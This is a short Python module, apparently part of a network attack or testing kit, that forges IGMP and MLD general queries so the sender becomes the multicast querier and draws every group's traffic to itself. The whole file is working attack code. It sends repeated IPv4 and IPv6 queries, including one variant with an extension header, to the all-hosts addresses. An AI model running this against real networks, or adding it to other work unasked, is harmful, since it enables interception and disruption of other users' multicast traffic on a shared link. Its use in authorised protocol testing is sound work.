# SPDX-License-Identifier: Apache-2.0
"""IGMP and MLD queries: the intruder becomes the querier, and every group's traffic comes to it."""
from kit import *


def attack(pot, family):
    for n in range(30):
        if family == 4:
            for body in (b"\x11\x64\0\0\0\0\0\0", b"\x11\x64\0\0\0\0\0\0\2\x7d\0\0"):
                body = body[:2] + struct.pack(">H", checksum(body)) + body[4:]
                pot.send(ethernet(group("224.0.0.1"), pot.mac, ip(pot.ip(4), "224.0.0.1", 2, body, ttl=1)))
        else:
            query = icmp(pot.link_local(), "ff02::1", 130, b"\0\1\0\0" + b"\0" * 16, ttl=1)
            for packet in (query, extension(query, (0, b"\5\2\0\0\1\0"))):
                pot.send(ethernet(group("ff02::1"), pot.mac, packet))
